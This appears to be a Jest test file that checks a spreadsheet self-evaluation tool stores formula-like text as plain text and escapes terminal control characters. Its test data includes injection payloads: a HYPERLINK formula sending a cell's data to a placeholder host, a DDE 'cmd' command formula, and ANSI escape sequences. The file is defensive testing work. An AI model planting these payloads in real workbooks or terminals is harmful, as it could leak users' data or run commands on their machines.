import ExcelJS from "exceljs";
import JSZip from "jszip";
import { promises as fs } from "fs";
import os from "os";
import path from "path";
import { CheckReport } from "../../src/cli/report-schema";
import { createExcelPort, officeHost } from "../../src/excel";
import { createFakeOffice, workbookFromGrids } from "../../dev/fake-office";
import { createExcelPaneActions } from "../../src/taskpane/excel-pane-actions";
import { SAMPLE } from "../xlsx/bad-files";
import { cleanForm, layForm } from "../helpers/form-builder";
import { ensureBuiltCli, runMeasured } from "./measure-cli";

/**
 * Text the product writes or prints never becomes something else: a value that
 * starts with = + - @ stays text in the workbooks it writes (Office.js, exceljs),
 * and control characters from a cell never reach the user's terminal raw. Its one CSV
 * export (the 汇总表) keeps such text as text with a leading apostrophe; its JSON report
 * escapes control characters itself.
 */

jest.setTimeout(180_000);

const FORMULA_LIKE = [
  '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
];

let dir: string;
beforeAll(async () => {
  ensureBuiltCli();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "selfeval-inject-"));
});
afterAll(async () => {
  if (dir) await fs.rm(dir, { recursive: true, force: true });
});

/** Every formula (<f>) in the sheets of an .xlsx, as "sheet.xml:cell". */
async function formulasIn(file: string): Promise<string[]> {
  const zip = await JSZip.loadAsync(await fs.readFile(file));
  const found: string[] = [];
  for (const name of Object.keys(zip.files).filter((n) => n.startsWith("xl/worksheets/"))) {
    const xml = await zip.files[name]!.async("string");
    for (const m of xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*<f[ >]/g))
      found.push(`${path.basename(name)}:${m[1]}`);
  }
  return found;
}

describe("the task pane writes formula-like text as text", () => {
  function pane() {
    const grid = layForm(cleanForm(), { sheet: "项目" });
    const office = createFakeOffice({ workbook: workbookFromGrids([grid]) });
    const port = createExcelPort({ host: officeHost(office), now: () => "2026-01-02T00:00:00Z" });
    return { office, actions: createExcelPaneActions({ port }) };
  }

  it.each(FORMULA_LIKE)("keeps a 偏差原因分析 of %p as text", async (text) => {
    const { office, actions } = pane();
    await actions.writeReason("项目", { row: 13, col: 8 }, text);
    const cell = office.workbook.cell(office.workbook.sheetByName("项目")!, 13, 8);
    expect(cell).toEqual({ value: text });
  });

  it.each(FORMULA_LIKE)(
    "keeps a project named %p as text on a new template sheet",
    async (name) => {
      const { office, actions } = pane();
      const [sheetName] = await actions.insertTemplates([{ name, dept: name, unit: name }]);
      const sheet = office.workbook.sheetByName(sheetName!)!;
      const texts: unknown[] = [];
      for (const row of sheet.rows.values())
        for (const cell of row.values()) {
          // The template's own formulas (the 执行率) are fine; none may hold the typed text.
          expect(cell.formula ?? "").not.toContain(name.slice(1));
          texts.push(cell.value);
        }
      expect(texts.filter((t) => t === name).length).toBeGreaterThanOrEqual(3);
    }
  );
});

describe("the 汇总表 keeps formula-like project names as text", () => {
  function named(name: string, sheet: string) {
    const spec = cleanForm();
    spec.name = name;
    spec.dept = name;
    return layForm(spec, { sheet });
  }
  const grids = () => FORMULA_LIKE.map((name, i) => named(name, `项目${i + 1}`));

  it("in the sheet the pane writes, linked or not", async () => {
    const office = createFakeOffice({ workbook: workbookFromGrids(grids()) });
    const actions = createExcelPaneActions({ host: officeHost(office) });
    expect((await actions.writeSummary()).sheet).toBe("汇总");
    const sheet = office.workbook.sheetByName("汇总")!;
    const cells = [...sheet.rows.values()].flatMap((row) => [...row.values()]);
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    for (const name of FORMULA_LIKE)
      expect(cells.filter((c) => c.value === name).length).toBeGreaterThanOrEqual(2);
  });

  it("in the .xlsx and the CSV of selfeval check --summary", async () => {
    const book = new ExcelJS.Workbook();
    for (const g of grids()) {
      const ws = book.addWorksheet(g.sheet);
      g.cells.forEach((row, r) =>
        row.forEach((cell, c) => {
          if (cell.value !== null) ws.getCell(r + 1, c + 1).value = cell.value;
        })
      );
    }
    const file = path.join(dir, "公式名称.xlsx");
    await book.xlsx.writeFile(file);
    const xlsx = path.join(dir, "公式汇总.xlsx");
    const csv = path.join(dir, "公式汇总.csv");
    expect((await runMeasured(["check", file, "--summary", xlsx, "--fail-on", "never"])).code).toBe(
      0
    );
    expect((await runMeasured(["check", file, "--summary", csv, "--fail-on", "never"])).code).toBe(
      0
    );
    expect(await formulasIn(xlsx)).toEqual([]);
    const text = (await fs.readFile(csv, "utf8")).slice(1);
    for (const name of FORMULA_LIKE) {
      const quoted = /[",]/.test(name) ? `"'${name.replace(/"/g, '""')}"` : `'${name}`;
      expect(text).toContain(`,${quoted},`);
    }
    // No field of any line starts a formula.
    for (const line of text.split("\r\n"))
      expect(line.split(",").filter((field) => /^"?[=+\-@]/.test(field))).toEqual([]);
  });
});

describe("the CLI writes formula-like text as text and prints no control characters", () => {
  it("selfeval new keeps formula-like project names as text cells", async () => {
    const out = path.join(dir, "新表.xlsx");
    const args = ["new", "--out", out];
    for (const name of FORMULA_LIKE.slice(0, 3)) args.push("--name", name);
    args.push("--dept", "@SUM(A1)", "--unit", "-1+1");
    const run = await runMeasured(args);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const formulas = await formulasIn(out);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const strings: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string") strings.push(cell.value);
        })
      )
    );
    for (const text of [...FORMULA_LIKE.slice(0, 3), "@SUM(A1)", "-1+1"])
      expect(strings).toContain(text);
    // The template's own formulas, if any, are not these texts.
    for (const where of formulas) expect(FORMULA_LIKE.join()).not.toContain(where);
    expect(formulas.every((f) => !/^sheet\d+\.xml:(B3|B4|G4)$/.test(f))).toBe(true);
  });

  it("keeps formula-like cell text as text in a scored copy, and adds no formula", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(SAMPLE);
    const sheet = book.worksheets[0]!;
    sheet.getCell("B3").value = FORMULA_LIKE[0]!;
    sheet.getCell("F14").value = FORMULA_LIKE[1]!;
    sheet.getCell("I15").value = FORMULA_LIKE[4]!;
    sheet.getCell("H16").value = 3; // a wrong score with no reason, so the copy gets a write
    const file = path.join(dir, "公式文本.xlsx");
    await book.xlsx.writeFile(file);
    const before = await formulasIn(file);
    const out = path.join(dir, "评分");
    const run = await runMeasured(["check", file, "--write", out]);
    expect(run.code).toBe(1);
    const [copy] = await fs.readdir(out);
    const scoredFile = path.join(out, copy!);
    expect(await formulasIn(scoredFile)).toEqual(before);
    const scored = new ExcelJS.Workbook();
    await scored.xlsx.readFile(scoredFile);
    const ws = scored.worksheets[0]!;
    expect(ws.getCell("B3").value).toBe(FORMULA_LIKE[0]);
    expect(ws.getCell("F14").value).toBe(FORMULA_LIKE[1]);
    expect(ws.getCell("I15").value).toBe(FORMULA_LIKE[4]);
    expect(ws.getCell("H16").value).toBe(10);
  });

  it("shows control characters from cells as \\uXXXX in text output, and JSON escapes them", async () => {
    // exceljs drops control characters when it writes, but reads the OOXML escapes (_x001B_)
    // and character references a crafted file holds: patch them into the XML.
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(SAMPLE);
    const sheet = book.worksheets[0]!;
    sheet.getCell("B3").value = "ESC]0;pwnedBELESC[31m红色项目ESC[0mCR覆盖";
    sheet.getCell("F14").value = "ESC[2J\u009b清屏";
    const zip = await JSZip.loadAsync(await book.xlsx.writeBuffer());
    for (const name of Object.keys(zip.files).filter(
      (n) => n.startsWith("xl/") && n.endsWith(".xml")
    )) {
      const xml = await zip.files[name]!.async("string");
      zip.file(
        name,
        xml.replace(/ESC/g, "_x001B_").replace(/BEL/g, "_x0007_").replace(/CR/g, "&#13;")
      );
    }
    const file = path.join(dir, "控制字符.xlsx");
    await fs.writeFile(
      file,
      await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" })
    );

    const text = await runMeasured(["check", file]);
    expect([0, 1]).toContain(text.code);
    const raw = `${text.stdout}${text.stderr}`;
    expect(raw).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text.stdout).toContain("\\u001b]0;pwned\\u0007\\u001b[31m红色项目\\u001b[0m\\u000d覆盖");
    expect(text.stdout).toContain("\\u001b[2J\\u009b清屏");

    // JSON.stringify writes C0 controls as \\u escapes (it leaves C1 ones such as U+009B as they are).
    const json = await runMeasured(["check", file, "--json"]);
    expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    const report = CheckReport.parse(JSON.parse(json.stdout));
    expect(report.files[0]!.sheets[0]!.forms[0]!.project).toBe(
      "\u001b]0;pwned\u0007\u001b[31m红色项目\u001b[0m\r覆盖"
    );
  });
});
